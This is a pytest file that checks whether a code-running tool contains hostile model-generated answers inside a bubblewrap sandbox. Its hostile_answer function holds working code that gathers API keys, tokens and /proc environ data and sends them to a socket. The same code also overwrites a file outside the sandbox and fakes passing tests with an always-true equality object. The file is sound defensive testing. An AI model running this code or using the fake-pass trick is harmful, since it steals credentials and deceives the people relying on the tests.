"""End to end: `think solve --task code --tests t.py --engine URL`, where the server's code
answer is hostile. It reads think's secrets, sends them to a loopback socket, writes a file
outside and fakes a pass; all of it stays in the sandbox and no sample counts as passing."""

from __future__ import annotations

import json
import socket
import sys
from pathlib import Path
from typing import Any

import pytest
from support.bad_server import MODELS, Reply, serving, text_stream

from think import sandbox

SECRET = "e2e-secret-0b7d"


def hostile_answer(canary: Path, port: int) -> str:
    return (
        "import os, socket\n"
        "keys = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        keys[pid] = open(f'/proc/{pid}/environ').read()\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), 1).sendall(repr(keys).encode())\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    open({str(canary)!r}, 'w').write('pwned')\n"
        "except OSError:\n"
        "    pass\n"
        "print(keys)\n"
        "class Yes:\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "def add(a, b):\n"
        "    return Yes()\n"
        "os._exit(0)\n")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is Linux's")
def test_a_hostile_server_answer_is_contained(run_cli, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    assert sandbox.os_sandbox() == "bwrap", "install bubblewrap: these tests run for real"
    monkeypatch.setenv("THINK_API_KEY", SECRET)
    monkeypatch.setenv("HF_TOKEN", SECRET)
    canary = tmp_path / "canary.txt"
    canary.write_text("untouched")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    answer = hostile_answer(canary, listener.getsockname()[1])
    pieces = [" Here it is.", "\nFinal answer:", "\n```python\n", answer, "\n```", "\n"]

    def replies(path: str, body: dict[str, Any]) -> Reply:
        return MODELS if path.endswith("/models") else text_stream(pieces, body.get("n", 1))

    tests = tmp_path / "t.py"
    tests.write_text("assert add(2, 3) == 5\nassert add(2, 3) == 6\n")  # no program passes
    with serving(replies) as server:
        run = run_cli("solve", "Write a Python function add(a, b).", "--task", "code",
                      "--tests", str(tests), "--engine", server.url,  # type: ignore[attr-defined]
                      "--budget", "16", "--json", "--seed", "1")
    assert run.code == 0, run.stderr
    result = json.loads(run.stdout)
    assert result["sandbox"] == "bwrap" and result["tests_source"] == "given"
    tested = [s["tests"] for s in result["samples"] if s["answer"]]
    assert tested and all(status == "failed" for status in tested)
    assert canary.read_text() == "untouched"
    with pytest.raises(TimeoutError):
        listener.accept()  # nothing ever connected
    listener.close()
    assert SECRET not in run.stdout and SECRET not in run.stderr


def test_an_unknown_sandbox_mode_is_a_usage_error(run_cli) -> None:
    run = run_cli("solve", "Write a Python function add(a, b).", "--task", "code",
                  "--sandbox", "bogus", "--engine", "http://127.0.0.1:9")
    assert run.code == 2 and "unknown sandbox 'bogus'" in run.stderr


def test_the_profile_opts_in_to_the_guard_with_a_warning(capsys: pytest.CaptureFixture[str]
                                                         ) -> None:
    import think
    from think.config import load_profile
    from think.engine.scripted import ScriptedEngine

    sandbox._said.clear()
    profile = load_profile(None).model_copy(update={"sandbox": "guard"})
    reply = " ok.\nFinal answer:\n```python\ndef add(a, b):\n    return a + b\n```"
    result = think.solve("Write a Python function add(a, b).", budget=16, profile=profile,
                         engine=ScriptedEngine(respond=lambda r, i: reply), task="code",
                         tests="assert add(2, 3) == 5\n", seed=1)
    assert result.to_dict()["sandbox"] == "guard"
    assert all(s.tests == "passed" for s in result.samples if s.answer)
    warnings = [line for line in capsys.readouterr().err.splitlines() if "warning" in line]
    assert len(warnings) == 1 and "--sandbox guard" in warnings[0]
